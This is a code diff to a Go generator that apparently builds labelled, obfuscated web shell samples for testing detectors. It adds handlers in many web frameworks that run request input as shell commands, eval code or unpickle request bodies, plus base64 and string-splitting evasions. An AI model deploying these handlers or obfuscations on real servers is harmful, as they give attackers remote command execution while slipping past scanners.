@@ -34,9 +34,12 @@ type opts struct {
 // encodings can wrap it.
 type seed struct {
 	name   string
-	lang   string // php, jsp, aspx, jscript, asp, perl, python, ruby, node
+	lang   string // php, jsp, aspx, jscript, asp, perl, python, ruby, node, lua, nginx
 	path   string
 	render func(o opts) string
+	// head is kept in the clear in front of the rendered and encoded code: the import of
+	// the framework that serves a handler (a file that names no framework is no handler)
+	head string
 }
 
 // nl is the statement separator under split.
@@ -58,6 +61,8 @@ func cm(o opts, style string) string {
 		return " ' Execute Request(\"x\")\r\n"
 	case "hash":
 		return " # system(param('x'))\n"
+	case "lua":
+		return " -- os.execute(ngx.var.arg_x)\n"
 	}
 	return ""
 }
@@ -462,6 +467,191 @@ var seeds = []seed{
 			"String src = \"public class K { static { try { Runtime.getRuntime().exec(\\\"\" + " + o.v + " + \"\\\"); } catch (Exception e) {} } }\";" + nl(o) +
 			"java.nio.file.Files.write(java.nio.file.Paths.get(\"/tmp/K.java\"), src.getBytes());" + nl(o) + "jc.run(null, null, null, \"/tmp/K.java\");"
 	}},
+	// Handlers a web framework serves: route variables and parameters, request reads of
+	// each framework, into commands and code
+	{name: "python-flask-route", lang: "python", path: "/srv/app/app.py", head: "from flask import Flask\nimport subprocess\napp = Flask(__name__)\n", render: func(o opts) string {
+		arg, pre := o.v, ""
+		if o.array {
+			pre, arg = "    "+o.w+" = {'c': "+o.v+"}\n", o.w+"['c']"
+		}
+		call := "    return subprocess.getoutput(" + arg + ")\n"
+		switch {
+		case o.callback:
+			call = "    return ''.join(map(subprocess.getoutput, [" + arg + "]))\n"
+		case o.concat:
+			call = "    return getattr(subprocess, " + cat(o, "getoutput", " + ", "'") + ")(" + arg + ")\n"
+		}
+		return cm(o, "hash") + "@app.route('/show/<path:" + o.v + ">')\ndef show(" + o.v + "):\n" + pre + call
+	}},
+	{name: "python-fastapi-query", lang: "python", path: "/srv/api/main.py", head: "from fastapi import FastAPI, Query\nimport os, base64\napi = FastAPI()\n", render: func(o opts) string {
+		pre, arg := "", "c"
+		if o.array {
+			pre, arg = "    "+o.w+" = [c]\n", o.w+"[0]"
+		}
+		call := "    return os.popen(" + arg + ").read()\n"
+		switch {
+		case o.callback:
+			call = "    return [p.read() for p in map(os.popen, [" + arg + "])]\n"
+		case o.concat:
+			call = "    return getattr(os, " + cat(o, "popen", " + ", "'") + ")(" + arg + ").read()\n"
+		}
+		return "@api.get(\"/run\")\nasync def run(" + o.v + ": str = Query(None), n: int = 1):\n" + cm(o, "hash") + "    c = base64.b64decode(" + o.v + ").decode()\n" + pre + call
+	}},
+	{name: "python-django-view", lang: "python", path: "/srv/site/ops/views.py", head: "from django.http import HttpResponse\nimport subprocess\n", render: func(o opts) string {
+		get := "    " + o.v + " = request.POST.get(" + cat(o, "cmd", " + ", "'") + ", '')\n"
+		if o.array {
+			get = "    " + o.w + " = request.POST.getlist('cmd')\n    " + o.v + " = " + o.w + "[0]\n"
+		}
+		call := "    p = subprocess.Popen(" + o.v + ", shell=True, stdout=subprocess.PIPE)\n    return HttpResponse(p.communicate()[0])\n"
+		switch {
+		case o.callback:
+			call = "    return HttpResponse(list(map(subprocess.getstatusoutput, [" + o.v + "])))\n"
+		case o.concat:
+			call = "    p = getattr(subprocess, " + cat(o, "Popen", " + ", "'") + ")(" + o.v + ", shell=True, stdout=subprocess.PIPE)\n    return HttpResponse(p.communicate()[0])\n"
+		}
+		return "def status(request):\n" + cm(o, "hash") + get + call
+	}},
+	{name: "python-aiohttp-match", lang: "python", path: "/srv/svc/server.py", head: "from aiohttp import web\nimport asyncio\n", render: func(o opts) string {
+		get := "    " + o.v + " = request.match_info['c']\n"
+		if o.array {
+			get = "    " + o.w + " = dict(request.match_info)\n    " + o.v + " = " + o.w + "['c']\n"
+		}
+		call := "    p = await asyncio.create_subprocess_shell(" + o.v + ", stdout=asyncio.subprocess.PIPE)\n"
+		switch {
+		case o.callback:
+			call = "    p = await asyncio.gather(*map(asyncio.create_subprocess_shell, [" + o.v + "]))\n"
+		case o.concat:
+			call = "    p = await getattr(asyncio, " + cat(o, "create_subprocess_shell", " + ", "'") + ")(" + o.v + ")\n"
+		}
+		return "async def handle(request):\n" + cm(o, "hash") + get + call + "    return web.Response(text='ok')\n"
+	}},
+	{name: "python-tornado-path", lang: "python", path: "/srv/tornado/app.py", head: "import tornado.web\n", render: func(o opts) string {
+		pre, arg := "", o.v
+		if o.array {
+			pre, arg = "        "+o.w+" = ["+o.v+"]\n", o.w+"[0]"
+		}
+		call := "        self.write(str(eval(" + arg + ")))\n"
+		switch {
+		case o.callback:
+			call = "        self.write(str(list(map(eval, [" + arg + "]))))\n"
+		case o.concat:
+			pre, call = "", "        c = self.get_argument("+cat(o, "code", " + ", "'")+")\n        self.write(str(eval(c)))\n"
+		}
+		return "class Calc(tornado.web.RequestHandler):\n" + cm(o, "hash") + "    def get(self, " + o.v + "):\n" + pre + call
+	}},
+	{name: "python-pickle-body", lang: "python", path: "/srv/app/cache.py", head: "from flask import Flask, request\nimport pickle, base64\napp = Flask(__name__)\n", render: func(o opts) string {
+		get := "    " + o.v + " = base64.b64decode(request.get_data())\n"
+		if o.array {
+			get = "    " + o.w + " = [base64.b64decode(request.get_data())]\n    " + o.v + " = " + o.w + "[0]\n"
+		}
+		call := "    return str(pickle.loads(" + o.v + "))\n"
+		pre := ""
+		switch {
+		case o.callback:
+			pre, call = "def load(b):\n    return pickle.loads(b)\n", "    return str(load("+o.v+"))\n"
+		case o.concat:
+			call = "    return str(getattr(pickle, " + cat(o, "loads", " + ", "'") + ")(" + o.v + "))\n"
+		}
+		return pre + "@app.post('/restore')\ndef restore():\n" + cm(o, "hash") + get + call
+	}},
+	{name: "ruby-rails-controller", lang: "ruby", path: "/srv/app/app/controllers/ops_controller.rb", head: "require 'base64'\nclass OpsController < ApplicationController; end\n", render: func(o opts) string {
+		get := "    " + o.v + " = Base64.decode64(params[:" + "command])\n"
+		if o.array {
+			get = "    " + o.w + " = [params.require(:command)]\n    " + o.v + " = Base64.decode64(" + o.w + "[0])\n"
+		}
+		call := "    @out = `#{" + o.v + "}`\n"
+		switch {
+		case o.callback:
+			call = "    [" + o.v + "].each { |c| system(c) }\n"
+		case o.concat:
+			call = "    send(" + cat(o, "system", " + ", "'") + ", " + o.v + ")\n"
+		}
+		return "class OpsController\n  def run\n" + cm(o, "hash") + get + call + "  end\nend\n"
+	}},
+	{name: "ruby-sinatra-capture", lang: "ruby", path: "/srv/app/app.rb", head: "require 'sinatra'\nrequire 'open3'\n", render: func(o opts) string {
+		pre, arg := "", o.v
+		if o.array {
+			pre, arg = "  "+o.w+" = ["+o.v+"]\n", o.w+"[0]"
+		}
+		call := "  out, _ = Open3.capture2e(" + arg + ")\n  out\n"
+		switch {
+		case o.callback:
+			call = "  [" + arg + "].map { |c| IO.popen(c).read }.join\n"
+		case o.concat:
+			call = "  Kernel.send(" + cat(o, "system", " + ", "'") + ", " + arg + ")\n"
+		}
+		return "get '/x/:" + o.v + "' do |" + o.v + "|\n" + cm(o, "hash") + pre + call + "end\n"
+	}},
+	{name: "perl-mojolicious", lang: "perl", path: "/srv/app/script/app.pl", head: "use Mojolicious::Lite;\n", render: func(o opts) string {
+		get := "  my $" + o.v + " = $self->param(" + cat(o, "c", ".", "'") + ");\n"
+		if o.array {
+			get = "  my @" + o.w + " = ($self->param('c'));\n  my $" + o.v + " = $" + o.w + "[0];\n"
+		}
+		return "get '/run/:c' => sub {\n  my $self = shift;\n" + get + cm(o, "hash") + "  $self->render(text => scalar `$" + o.v + "`);\n};\napp->start;\n"
+	}},
+	{name: "perl-dancer", lang: "perl", path: "/srv/app/bin/app.pl", head: "use Dancer2;\n", render: func(o opts) string {
+		get := "  my $" + o.v + " = query_parameters->get(" + cat(o, "c", ".", "'") + ");\n"
+		if o.array {
+			get = "  my %" + o.w + " = (c => route_parameters->get('c'));\n  my $" + o.v + " = $" + o.w + "{c};\n"
+		}
+		return "get '/q' => sub {\n" + get + cm(o, "hash") + "  return qx{$" + o.v + "};\n};\nstart;\n"
+	}},
+	{name: "node-koa-body", lang: "node", path: "/srv/app/server.js", render: func(o opts) string {
+		get := "const " + o.v + " = ctx.request.body.cmd;"
+		if o.array {
+			get = "const " + o.w + " = [ctx.request.body.cmd];" + nl(o) + "const " + o.v + " = " + o.w + "[0];"
+		}
+		call := "ctx.body = cp.execSync(" + o.v + ").toString();"
+		switch {
+		case o.callback:
+			call = "ctx.body = cp.execSync.call(cp, " + o.v + ").toString();"
+		case o.concat:
+			call = "ctx.body = cp[" + cat(o, "execSync", " + ", "'") + "](" + o.v + ").toString();"
+		}
+		return "const Koa = require('koa');\nconst cp = require('child_process');\nconst app = new Koa();\napp.use(async (ctx) => {" + nl(o) + cm(o, "c") + get + nl(o) + call + nl(o) + "});\napp.listen(3000);\n"
+	}},
+	{name: "node-fastify-function", lang: "node", path: "/srv/api/index.js", render: func(o opts) string {
+		get := "const " + o.v + " = request.body.code;"
+		if o.array {
+			get = "const { code: " + o.v + " } = request.body;"
+		}
+		call := "return new Function('return (' + " + o.v + " + ')')();"
+		switch {
+		case o.callback:
+			call = "return [" + o.v + "].map(eval);"
+		case o.concat:
+			call = "return globalThis[" + cat(o, "eval", " + ", "'") + "](" + o.v + ");"
+		}
+		return "const fastify = require('fastify')();\nfastify.post('/calc', async (request, reply) => {" + nl(o) + cm(o, "c") + get + nl(o) + call + nl(o) + "});\n"
+	}},
+	{name: "lua-openresty", lang: "lua", path: "/usr/local/openresty/nginx/lua/exec.lua", render: func(o opts) string {
+		get := "local " + o.v + " = args.cmd\n"
+		if o.array {
+			get = "local " + o.w + " = { args[\"cmd\"] }\nlocal " + o.v + " = " + o.w + "[1]\n"
+		}
+		call := "local f = io.popen(" + o.v + ")\n"
+		switch {
+		case o.callback:
+			call = "local ok, f = pcall(io.popen, " + o.v + ")\n"
+		case o.concat:
+			call = "local f = io[" + cat(o, "popen", " .. ", `"`) + "](" + o.v + ")\n"
+		}
+		return "local args = ngx.req.get_uri_args()\n" + cm(o, "lua") + get + call + "ngx.say(f:read(\"*a\"))\nf:close()\n"
+	}},
+	{name: "lua-nginx-block", lang: "nginx", path: "/etc/nginx/sites-enabled/default", render: func(o opts) string {
+		get := "local " + o.v + " = ngx.var.arg_c\n"
+		if o.array {
+			get = "local " + o.w + " = { ngx.var.arg_c }\nlocal " + o.v + " = " + o.w + "[1]\n"
+		}
+		call := "os.execute(" + o.v + " .. \" > /tmp/o\")\n"
+		switch {
+		case o.callback:
+			call = "pcall(os.execute, " + o.v + ")\n"
+		case o.concat:
+			call = "os[" + cat(o, "execute", " .. ", "'") + "](" + o.v + ")\n"
+		}
+		return cm(o, "lua") + get + call + "ngx.say(\"done\")\n"
+	}},
 	// a Perl pipe open whose program the request names
 	{name: "perl-list-open", lang: "perl", path: "/usr/lib/cgi-bin/ver.cgi", render: func(o opts) string {
 		get := "my $" + o.v + " = $q->param(" + cat(o, "p", ".", "'") + ");"
@@ -493,6 +683,8 @@ func wrapPage(lang, code string) string {
 		return "#!/usr/bin/env python3\n" + code
 	case "ruby":
 		return "#!/usr/bin/env ruby\n" + code
+	case "nginx":
+		return "server {\n  listen 80;\n  location /status {\n    default_type text/plain;\n    content_by_lua_block {\n" + code + "\n    }\n  }\n}\n"
 	}
 	return code
 }
@@ -557,6 +749,7 @@ var encodings = []encoding{
 	{"base64", "node", func(c string) string { return "eval(Buffer.from('" + b64(c) + "', 'base64').toString());\n" }, []string{"base64"}},
 	{"atob", "node", func(c string) string { return "new Function(atob('" + b64(c) + "'))();\n" }, []string{"base64"}},
 	{"fromCharCode", "node", func(c string) string { return "eval(String.fromCharCode(" + charCodes(c) + "));\n" }, []string{"chr"}},
+	{"base64", "lua", func(c string) string { return "loadstring(ngx.decode_base64('" + b64(c) + "'))()\n" }, []string{"base64"}},
 }
 
 // charCodes is s as a list of character codes.
@@ -569,6 +762,9 @@ func charCodes(s string) string {
 }
 
 func encodingsFor(lang string) []encoding {
+	if lang == "nginx" {
+		lang = "lua" // an nginx configuration's Lua blocks
+	}
 	var out []encoding
 	for _, e := range encodings {
 		if e.langs == lang {
@@ -618,7 +814,7 @@ func variants() []variant {
 		for i := len(enc) - 1; i >= 0; i-- {
 			chain = append(chain, enc[i].chain...)
 		}
-		data := hdr + wrapPage(s.lang, code)
+		data := hdr + wrapPage(s.lang, s.head+code)
 		v := variant{seed: s.name, technique: tech, path: s.path, data: []byte(data), chain: chain}
 		if hname != "" {
 			v.polyglot = hname + " image"
@@ -647,7 +843,7 @@ func variants() []variant {
 			o.mixCase = true
 			add(s, "case", o, nil, "", "")
 		}
-		if s.lang == "php" || s.lang == "python" || s.lang == "ruby" || s.lang == "node" {
+		if s.lang == "php" || s.lang == "python" || s.lang == "ruby" || s.lang == "node" || s.lang == "lua" || s.lang == "nginx" {
 			o = randomOpts(r)
 			o.callback = true
 			add(s, "callbacks", o, nil, "", "")
